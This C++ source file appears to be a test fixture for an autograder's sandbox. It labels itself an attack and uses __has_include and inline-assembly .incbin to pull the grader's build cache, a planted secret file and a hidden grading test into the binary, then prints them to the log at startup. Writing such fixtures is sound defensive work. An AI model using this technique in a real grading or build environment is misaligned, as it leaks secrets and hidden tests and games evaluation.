// Attack (issue 32): the compiler embeds files of the grader's build folder and of the tree
// (.incbin in inline assembly; GCC 12 has no #embed) wherever __has_include says they can be read,
// and a static constructor prints them for the run's log. @BUILD@ is the grader's build folder,
// @REPO@ the tree, @SECRET@ a file the test puts in the tree's dist/ folder.
#include <cstdio>
#include <cstring>

#define SCANLAB_EMBED(symbol, path)                                                                \
    asm(".section .rodata\n.global " #symbol "\n" #symbol ":\n.incbin \"" path "\"\n.byte 0\n"     \
        ".previous\n");                                                                            \
    extern "C" const char symbol[];

#if __has_include("@BUILD@/CMakeCache.txt")
SCANLAB_EMBED(leak_cache, "@BUILD@/CMakeCache.txt")
#define HAVE_CACHE 1
#endif
#if __has_include("@SECRET@")
SCANLAB_EMBED(leak_dist, "@SECRET@")
#define HAVE_DIST 1
#endif
#if __has_include("@REPO@/grading/hidden/lab01_naive_hidden_test.cpp")
SCANLAB_EMBED(leak_hidden, "@REPO@/grading/hidden/lab01_naive_hidden_test.cpp")
#define HAVE_HIDDEN 1
#endif

namespace {

const bool embedded = [] {
#ifdef HAVE_CACHE
    std::printf("INCBIN: CMakeCache.txt:\n%s\n", leak_cache);
#else
    std::printf("INCBIN: no CMakeCache.txt\n");
#endif
#ifdef HAVE_DIST
    std::printf("INCBIN: dist:\n%s\n", leak_dist);
#else
    std::printf("INCBIN: no dist\n");
#endif
#ifdef HAVE_HIDDEN
    std::printf("INCBIN: hidden:\n%s\n", leak_hidden);
#else
    std::printf("INCBIN: no hidden test\n");
#endif
    std::fflush(stdout);
    return true;
}();

} // namespace
